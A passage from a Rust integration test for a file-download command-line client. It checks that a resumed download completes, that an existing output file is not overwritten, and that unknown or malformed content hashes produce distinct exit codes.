    assert!(std::fs::read(&resumed).unwrap() == data);
    assert!(!part.exists());
    // Never over an existing file: an error (1), the file untouched.
    let out = run(&down, "");
    assert_eq!(out.status.code(), Some(1));
    assert!(
        text(&out.stderr).contains("not replacing it"),
        "{}",
        text(&out.stderr)
    );
    // A hash nobody shared: the server's refusal (5).
    let mut unknown = args(&server, "dana", &pw, &dir.path().join("d.db"));
    unknown.extend([
        "--download".into(),
        gc_protocol::ContentHash::of(b"none").to_string(),
        "--output".into(),
        dir.path().join("none").display().to_string(),
    ]);
    let out = run(&unknown, "");
    assert_eq!(out.status.code(), Some(5), "{}", text(&out.stderr));
    assert!(
        text(&out.stderr).contains("unknown-file"),
        "{}",
        text(&out.stderr)
    );
    // A malformed hash is bad usage (2).
    let mut bad = args(&server, "dana", &pw, &dir.path().join("d.db"));
    bad.extend([
        "--download".into(),
        "xyz".into(),
        "--output".into(),
        "o".into(),
    ]);
    assert_eq!(run(&bad, "").status.code(), Some(2));
}
